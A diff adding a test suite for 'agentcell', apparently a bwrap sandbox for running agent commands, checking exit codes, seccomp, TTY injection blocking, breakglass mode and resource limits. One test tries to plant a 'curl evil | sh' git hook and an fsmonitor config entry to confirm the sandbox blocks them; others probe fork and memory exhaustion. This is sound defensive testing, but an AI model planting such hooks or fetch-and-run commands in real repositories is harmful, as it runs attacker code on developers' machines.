@@ -1,0 +1,204 @@
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { detectCgroupSupport } from '../src/backends/cgroup-support.js';
+import { localDate } from '../src/policy/assurance.js';
+import { agentcell, CLI, inCell, listTree, makeSandbox, startCli, type Sandbox } from './helpers.js';
+
+describe('agentcell run', () => {
+  let sb: Sandbox;
+  before(() => {
+    sb = makeSandbox({ 'README.md': 'hi\n', '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n', '.git/config': '[core]\n' });
+  });
+  after(() => sb.cleanup());
+
+  it('passes exit codes 0, 1, 7 and 130 through', () => {
+    for (const code of [0, 1, 7, 130]) assert.equal(inCell(sb, `exit ${code}`).status, code);
+    assert.equal(inCell(sb, 'kill -INT $$').status, 130);
+  });
+
+  it('passes stdin and stdout through and prints the banner on stderr', () => {
+    const r = agentcell(['run', '--', 'tr', 'a-z', 'A-Z'], { cwd: sb.workspace, env: sb.env, input: 'hello\n' });
+    assert.equal(r.stdout, 'HELLO\n');
+    assert.match(r.stderr, /^agentcell: cell work-[0-9a-f]{6} · bwrap · mode development · workspace direct · network none · assurance reduced/m);
+  });
+
+  it('--json reports start and exit events with the assurance', () => {
+    const r = agentcell(['run', '--json', '--', 'sh', '-c', 'exit 3'], { cwd: sb.workspace, env: sb.env });
+    assert.equal(r.status, 3);
+    const events = r.stderr.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    assert.equal(events[0]?.['event'], 'start');
+    assert.deepEqual((events[0]?.['assurance'] as { reasons: string[] }).reasons, ['mode development', 'workspace direct (host files change live)']);
+    assert.equal(events[1]?.['event'], 'exit');
+    assert.equal(events[1]?.['exitCode'], 3);
+  });
+
+  it('--dry-run prints the exact bwrap argv and leaves no state behind', () => {
+    const before = listTree(sb.root);
+    const r = agentcell(['run', '--dry-run', '--json', '--', 'touch', 'ran'], { cwd: sb.workspace, env: sb.env });
+    assert.equal(r.status, 0, r.stderr);
+    const plan = JSON.parse(r.stdout) as { plan: { argv: string[] }; dryRun: boolean };
+    assert.equal(plan.dryRun, true);
+    assert.equal(plan.plan.argv[0], 'bwrap');
+    for (const flag of ['--unshare-all', '--die-with-parent', '--new-session', '--seccomp'])
+      assert.ok(plan.plan.argv.includes(flag), flag);
+    assert.deepEqual(plan.plan.argv.slice(-3), ['--', 'touch', 'ran']);
+    assert.deepEqual(listTree(sb.root), before);
+    const text = agentcell(['run', '--dry-run', '--', 'touch', 'ran'], { cwd: sb.workspace, env: sb.env });
+    assert.match(text.stdout, /would run:\n {2}bwrap \\\n {4}--unshare-all/);
+    assert.deepEqual(listTree(sb.root), before);
+  });
+
+  it('readonly workspace mode refuses writes', () => {
+    const r = inCell(sb, 'echo x > ro.txt', ['--workspace-mode', 'readonly']);
+    assert.notEqual(r.status, 0);
+    assert.equal(existsSync(join(sb.workspace, 'ro.txt')), false);
+  });
+
+  it('keeps the repo control plane read-only: git hooks and config cannot be planted', () => {
+    const r = inCell(sb, 'echo "curl evil | sh" > .git/hooks/post-checkout; echo evil >> .git/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .git/config; echo done');
+    assert.match(r.stdout, /done/);
+    assert.equal(existsSync(join(sb.workspace, '.git/hooks/post-checkout')), false);
+    assert.equal(readFileSync(join(sb.workspace, '.git/hooks/pre-commit'), 'utf8'), '#!/bin/sh\nexit 0\n');
+    assert.equal(readFileSync(join(sb.workspace, '.git/config'), 'utf8'), '[core]\n');
+  });
+
+  it('runs as a non-root uid by default and as uid 0 with --root', () => {
+    assert.notEqual(inCell(sb, 'id -u').stdout.trim(), '0');
+    assert.equal(inCell(sb, 'id -u', ['--root']).stdout.trim(), '0');
+  });
+
+  it('forwards SIGTERM to the command and returns its exit code', async () => {
+    const child = startCli(['run', '--', 'sh', '-c', 'trap "echo got-term; exit 42" TERM; echo ready; while :; do sleep 0.1; done'], {
+      cwd: sb.workspace,
+      env: sb.env,
+    });
+    let out = '';
+    await new Promise<void>((resolve) => child.stdout.on('data', (d: Buffer) => ((out += d.toString()), out.includes('ready') && resolve())));
+    child.kill('SIGTERM');
+    const code = await new Promise<number | null>((resolve) => child.on('exit', resolve));
+    assert.equal(code, 42);
+    assert.match(out, /got-term/);
+  });
+
+  it('enforces --timeout with exit 124', () => {
+    const started = Date.now();
+    const r = inCell(sb, 'sleep 30', ['--timeout', '1s']);
+    assert.equal(r.status, 124);
+    assert.ok(Date.now() - started < 15_000);
+  });
+
+  it('breakglass needs an acknowledgement dated today', () => {
+    const refused = inCell(sb, 'true', ['--mode', 'breakglass']);
+    assert.equal(refused.status, 2);
+    assert.match(refused.stderr, /--ack-breakglass=\d{4}-\d{2}-\d{2}/);
+    assert.equal(inCell(sb, 'true', ['--mode', 'breakglass', '--ack-breakglass', '2020-01-01']).status, 2);
+    const ok = inCell(sb, 'true', ['--mode', 'breakglass', '--ack-breakglass', localDate()]);
+    assert.equal(ok.status, 0, ok.stderr);
+    assert.match(ok.stderr, /assurance breakglass \(.*seccomp filter off/);
+  });
+
+  it('strict mode refuses lower-assurance choices, naming where they came from', () => {
+    const r = inCell(sb, 'true', ['--mode', 'strict']);
+    assert.equal(r.status, 2);
+    assert.match(r.stderr, /strict" refuses.*\n.*workspace\.mode = "direct" \(from built-in\)/);
+    const ok = inCell(sb, 'true', ['--mode', 'strict', '--workspace-mode', 'readonly']);
+    assert.equal(ok.status, 0, ok.stderr);
+    assert.match(ok.stderr, /assurance high$/m);
+  });
+
+  it('refuses what is not built yet instead of pretending', () => {
+    const r = inCell(sb, 'true', ['--network', 'allowlist']);
+    assert.equal(r.status, 2);
+    assert.match(r.stderr, /egress gateway is not built yet/);
+  });
+
+  it('open network is labeled as lowering assurance', () => {
+    const r = inCell(sb, 'true', ['--network', 'open']);
+    assert.match(r.stderr, /network open \(no egress control\)/);
+  });
+
+  it('seccomp blocks the kernel keyring inside the cell', () => {
+    const r = inCell(sb, `perl -e 'my $r = syscall(${process.arch === 'arm64' ? 219 : 250}, 0, 0); print "keyctl=$r errno=", $!+0, "\\n"'`);
+    assert.match(r.stdout, /keyctl=-1 errno=1\b/);
+  });
+
+  it('with a terminal: a real TTY, and TIOCSTI injection into it is blocked', () => {
+    writeFileSync(
+      join(sb.workspace, 'tty_probe.py'),
+      'import fcntl, os, termios\nprint("isatty", os.isatty(0))\ntry:\n    fcntl.ioctl(0, termios.TIOCSTI, b"x")\n    print("tiocsti=allowed")\nexcept OSError as e:\n    print("tiocsti=blocked", e.errno)\n',
+    );
+    const r = spawnSync('script', ['-qec', `${process.execPath} ${CLI} run -- python3 tty_probe.py`, '/dev/null'], {
+      cwd: sb.workspace,
+      env: sb.env,
+      encoding: 'utf8',
+      timeout: 30_000,
+    });
+    assert.match(r.stdout, /isatty True/);
+    assert.match(r.stdout, /tiocsti=blocked 1/);
+  });
+
+  it('an exported user config and --policy file are honoured', () => {
+    const policy = join(sb.root, 'other.toml');
+    writeFileSync(policy, '[env]\nFROM_POLICY = "yes"\n');
+    assert.match(inCell(sb, 'echo $FROM_POLICY', ['--policy', policy]).stdout, /yes/);
+    mkdirSync(join(sb.agentcellHome, 'config'), { recursive: true });
+    writeFileSync(join(sb.agentcellHome, 'config', 'config.toml'), '[env]\nFROM_USER = "u"\n');
+    assert.match(inCell(sb, 'echo $FROM_USER').stdout, /u/);
+  });
+});
+
+describe('resource limits', () => {
+  const support = detectCgroupSupport();
+  const fork40 = `perl -e 'my $ok = 0; for (1..40) { my $p = fork(); last unless defined $p; if ($p == 0) { sleep 2; exit 0 } $ok++ } print "forked=$ok\\n"'`;
+
+  it(`pids limit: ${support.pids ? 'enforced by cgroup' : 'reported as not enforced'}`, () => {
+    const sb = makeSandbox({ 'agentcell.toml': '[resources]\npids = 16\n' });
+    try {
+      const r = inCell(sb, fork40);
+      const forked = Number(/forked=(\d+)/.exec(r.stdout)?.[1]);
+      if (support.pids) {
+        assert.ok(forked < 16, `forked ${forked} processes under pids = 16`);
+        assert.doesNotMatch(r.stderr, /pids not enforced/);
+      } else {
+        assert.equal(forked, 40);
+        assert.match(r.stderr, /resources\.pids not enforced/);
+      }
+      assert.deepEqual(listTree(sb.workspace), ['agentcell.toml']);
+    } finally {
+      sb.cleanup();
+    }
+  });
+
+  it(`memory limit: ${support.memory ? 'enforced by cgroup' : 'reported as not enforced'}`, () => {
+    const sb = makeSandbox({ 'agentcell.toml': '[resources]\nmemory = "64M"\n' });
+    try {
+      const r = inCell(sb, `perl -e '$x = "a" x (256*1024*1024); print "alive\\n"'`);
+      if (support.memory) {
+        assert.doesNotMatch(r.stdout, /alive/);
+        assert.equal(r.status, 137);
+      } else {
+        assert.match(r.stdout, /alive/);
+        assert.match(r.stderr, /resources\.memory not enforced/);
+      }
+    } finally {
+      sb.cleanup();
+    }
+  });
+});
+
+describe('agentcell shell', () => {
+  it('opens a shell in the cell', () => {
+    const sb = makeSandbox();
+    try {
+      const r = agentcell(['shell'], { cwd: sb.workspace, env: sb.env, input: 'echo "in-cell $(hostname)"; exit 5\n' });
+      assert.equal(r.status, 5);
+      assert.match(r.stdout, /in-cell work-/);
+    } finally {
+      sb.cleanup();
+    }
+  });
+});
+
